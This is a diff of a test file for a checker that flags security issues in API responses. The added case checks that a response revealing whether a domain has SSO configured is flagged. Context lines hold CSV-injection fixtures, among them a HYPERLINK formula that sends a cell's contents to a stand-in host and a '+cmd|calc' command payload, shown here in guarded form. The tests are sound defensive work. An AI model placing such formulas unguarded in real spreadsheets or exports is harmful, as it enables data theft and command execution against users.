@@ -26,6 +26,13 @@ describe('the oracle', () => {
     expect(checkAnswer({ text: '', ms: 10_000, error: 'no answer within 10000 ms' }, 'POST').map((p) => p.kind)).toEqual(['no-answer']);
   });
 
+  it('flags an answer that says ERROR_EXTERNAL_AUTH_NOT_CONFIGURED (whether a domain has SSO, to anyone), whatever its status', () => {
+    for (const status of [400, 401]) {
+      expect(checkAnswer(answer(status, envelope(status, 'ERROR_EXTERNAL_AUTH_NOT_CONFIGURED')), 'POST').map((p) => p.kind)).toEqual(['disclosure']);
+    }
+    expect(checkAnswer(answer(401, envelope(401, 'ERROR_AUTHENTICATE_FAILURE')), 'POST')).toEqual([]);
+  });
+
   it('flags a CSV answer with a cell a spreadsheet would run as a formula (CSV injection), not a guarded one or a negative number', () => {
     const csv = (text: string) => answer(200, text, 'text/csv; charset=utf-8');
     expect(checkAnswer(csv(`name,n\r\n"'=HYPERLINK(""http://x/?""&A1,""c"")",-5\r\n'+cmd|calc,-1.5e-7\r\n"'\r=1",'-\r\n`), 'GET')).toEqual([]);
